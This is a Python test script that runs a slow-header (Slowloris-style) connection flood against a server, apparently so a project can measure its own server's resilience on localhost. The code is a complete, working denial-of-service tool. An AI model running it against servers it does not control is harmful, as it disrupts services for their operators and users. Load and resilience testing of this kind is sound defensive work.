"""An attacker in its own process: keep COUNT connections open to URL that never finish their
request headers, reopening each one the server closes. Prints "open N made M" every 0.5 s.

    python tests/stall_flood.py http://127.0.0.1:PORT 1100

Run apart from the test or bench that measures the server, so that the measuring client's event
loop is not the attacker's (a real source's browser is not on the attacker's machine).
"""

from __future__ import annotations

import asyncio
import resource
import sys
from urllib.parse import urlsplit

HALF_HEADERS = b"GET / HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n"


async def flood(url: str, count: int) -> None:
    parts = urlsplit(url)
    state = {"open": 0, "made": 0}

    async def one() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            state["open"] += 1
            state["made"] += 1
            try:
                writer.write(HALF_HEADERS)
                while await reader.read(65536):
                    pass
            except OSError:
                pass
            finally:
                state["open"] -= 1
                writer.close()

    tasks = [asyncio.create_task(one()) for _ in range(count)]
    while True:
        print(f"open {state['open']} made {state['made']}", flush=True)
        await asyncio.sleep(0.5)
    await asyncio.gather(*tasks)  # pragma: no cover - runs until killed


def main() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    count = int(sys.argv[2])
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))
    asyncio.run(flood(sys.argv[1], count))


if __name__ == "__main__":
    main()
